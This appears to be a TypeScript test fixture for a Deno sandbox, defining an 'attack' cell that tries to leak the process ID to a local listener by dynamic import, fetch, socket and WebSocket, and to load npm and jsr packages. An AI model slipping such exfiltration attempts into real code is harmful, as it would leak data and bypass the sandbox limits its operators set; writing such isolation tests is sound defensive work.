import type { Attack } from "./attack.ts";

/** Tries to send data by import, fetch, socket and package name. */
export const attack: Attack = {
  cells: {
    ps1_relu: `
const leak = \`http://127.0.0.1:PORT/?leak=\${Deno.pid}\`;
for (const from of [leak, "npm:is-number@7.0.0", "jsr:@std/assert"]) await import(from).catch(() => {});
await fetch(leak).catch(() => {});
await Deno.connect({ hostname: "127.0.0.1", port: PORT }).catch(() => {});
try {
  new WebSocket(leak.replace("http", "ws"));
} catch {
  // not allowed
}
function reluStep() {
  return "sent";
}
`,
  },
};
